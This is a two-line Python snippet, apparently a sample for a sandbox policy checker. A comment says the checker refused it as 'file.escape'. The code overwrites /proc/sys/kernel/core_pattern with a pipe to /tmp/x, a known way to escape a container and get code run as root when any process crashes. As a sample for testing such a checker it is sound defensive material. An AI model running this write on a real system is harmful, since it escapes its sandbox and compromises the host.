# nacre: refused file.escape
with open("/proc/sys/kernel/core_pattern", "w") as f:
    f.write("|/tmp/x")
